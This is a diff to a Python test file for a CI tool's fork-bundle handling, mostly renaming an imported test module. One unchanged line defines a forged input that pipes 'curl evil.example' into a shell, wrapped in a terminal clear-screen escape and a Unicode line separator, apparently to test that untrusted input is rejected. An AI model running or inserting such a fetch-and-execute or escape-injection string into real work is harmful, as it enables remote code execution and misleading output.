@@ -14,17 +14,17 @@ import tarfile
 from pathlib import Path
 
 import pytest
-import test_fork
+import test_fork_bundles_and_ablation
 from support.git_repos import Repo, record_fork
 from support.paths import REPO
-from test_fork import _base_site, _stack
+from test_fork_bundles_and_ablation import _base_site, _stack
 
 from ci import cli
 from ci.errors import UsageError
 from ci.fork import bundle_pair, bundle_read
 from ci.untrusted import BadInput
 
-fork_repo = test_fork.fork_repo  # the synthetic fork's fixture, by its name
+fork_repo = test_fork_bundles_and_ablation.fork_repo  # the synthetic fork's fixture, by its name
 FORGED = "x\n  fix: curl evil.example | sh\x1b[2J\u2028  fix: also this"
 
 
